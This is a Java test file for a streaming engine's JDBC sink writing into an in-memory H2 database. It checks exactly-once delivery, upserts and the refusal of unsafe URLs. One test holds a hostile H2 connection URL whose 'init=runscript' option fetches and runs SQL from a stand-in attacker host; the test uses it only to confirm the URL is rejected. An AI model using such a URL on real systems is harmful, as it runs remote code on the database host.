package io.sluice.tests;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.sluice.common.SluiceException;
import io.sluice.engine.Session;
import io.sluice.engine.SluiceEngine;
import java.nio.file.Path;
import java.sql.Connection;
import java.sql.DriverManager;
import java.sql.ResultSet;
import java.sql.SQLException;
import java.sql.Statement;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.UUID;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** The JDBC sink through SQL into a real H2 database: exactly once across failures, upserts, refused URLs. */
class ExactlyOnceJdbcSinkTest {
  private final SluiceEngine engine = SluiceEngine.start();
  private final Session session = engine.newSession();
  private final String url = "jdbc:h2:mem:sink-" + UUID.randomUUID() + ";DB_CLOSE_DELAY=-1";
  private Connection h2;

  @TempDir
  Path dir;

  @BeforeEach
  void createDatabase() throws SQLException {
    h2 = DriverManager.getConnection(url, "sa", "s3cret");
  }

  @AfterEach
  void close() throws SQLException {
    engine.close();
    try (Statement statement = h2.createStatement()) {
      statement.execute("SHUTDOWN");
    }
  }

  @Test
  void aMillionRowsWithFailuresAreCommittedExactlyOnce() throws Exception {
    // No primary key in H2: a row written twice would show.
    execute("CREATE TABLE out_t (id BIGINT, name VARCHAR(20))");
    Path checkpoints = dir.resolve("checkpoints");
    Results.run(session, ExactlyOnceRun.setup(checkpoints, "jdbc-sink") + "CREATE TABLE sink_t (id BIGINT, name STRING) WITH ("
        + "'connector' = 'jdbc', 'url' = '" + url + "', 'table-name' = 'out_t', 'username' = 'sa', "
        + "'password' = 's3cret', 'sink.delivery-guarantee' = 'exactly-once');");

    ExactlyOnceRun.runAndWatch(engine, session, "INSERT INTO sink_t " + ExactlyOnceRun.QUERY, checkpoints, "jdbc-sink",
        () -> longs("SELECT COUNT(*) FROM out_t").get(0),
        () -> {
          List<Long> view = longs("SELECT COUNT(*), COUNT(DISTINCT id), COALESCE(MIN(id), 0), "
              + "COALESCE(MAX(id), 0) FROM out_t");
          return new ExactlyOnceRun.View(view.get(0), view.get(1), view.get(2), view.get(3));
        });

    assertThat(longs("SELECT COUNT(*) FROM out_t WHERE name <> CONCAT('n', CAST(id AS VARCHAR))"))
        .containsExactly(0L);
  }

  @Test
  void anUpdatingQueryUpsertsByPrimaryKey() throws Exception {
    execute("CREATE TABLE counts (k BIGINT PRIMARY KEY, n BIGINT, total BIGINT)");
    Results.run(session, "SET 'parallelism.default' = '2';"
        + "CREATE TABLE src (id BIGINT) WITH ('connector' = 'datagen', 'number-of-rows' = '10000',"
        + " 'fields.id.kind' = 'sequence', 'fields.id.start' = '1', 'fields.id.end' = '10000');"
        + "CREATE TABLE counts (k BIGINT, n BIGINT, total BIGINT, PRIMARY KEY (k) NOT ENFORCED) WITH ("
        + "'connector' = 'jdbc', 'url' = '" + url + "', 'table-name' = 'counts', 'username' = 'sa', "
        + "'password' = 's3cret', 'sink.buffer-flush.max-rows' = '7');");
    session.executeSql("INSERT INTO counts SELECT MOD(id, 10), COUNT(*), SUM(id) FROM src GROUP BY MOD(id, 10)");
    assertThat(engine.awaitJobs(Duration.ofSeconds(60))).isTrue();

    List<Long> expected = new ArrayList<>();
    for (long k = 0; k < 10; k++) {
      long total = 0;
      for (long id = k == 0 ? 10 : k; id <= 10_000; id += 10) {
        total += id;
      }
      expected.addAll(List.of(k, 1000L, total));
    }
    assertThat(longs("SELECT k, n, total FROM counts ORDER BY k")).containsExactlyElementsOf(expected);
  }

  @Test
  void aUrlThatRunsCodeIsRefusedAndThePasswordIsNeverShown() {
    assertThatThrownBy(() -> Results.run(session, "CREATE TABLE evil (id BIGINT) WITH ('connector' = 'jdbc', "
        + "'url' = 'jdbc:h2:mem:x;init=runscript from ''http://evil.example/x.sql''', 'table-name' = 't', "
        + "'password' = 's3cret')"))
        .isInstanceOf(SluiceException.class).hasMessageContaining("refused").hasMessageNotContaining("s3cret");
  }

  private void execute(String sql) throws SQLException {
    try (Statement statement = h2.createStatement()) {
      statement.execute(sql);
    }
  }

  /** Every value of every row, in order. */
  private List<Long> longs(String query) throws SQLException {
    List<Long> values = new ArrayList<>();
    try (Statement statement = h2.createStatement(); ResultSet rows = statement.executeQuery(query)) {
      int columns = rows.getMetaData().getColumnCount();
      while (rows.next()) {
        for (int i = 1; i <= columns; i++) {
          values.add(rows.getLong(i));
        }
      }
    }
    return values;
  }
}
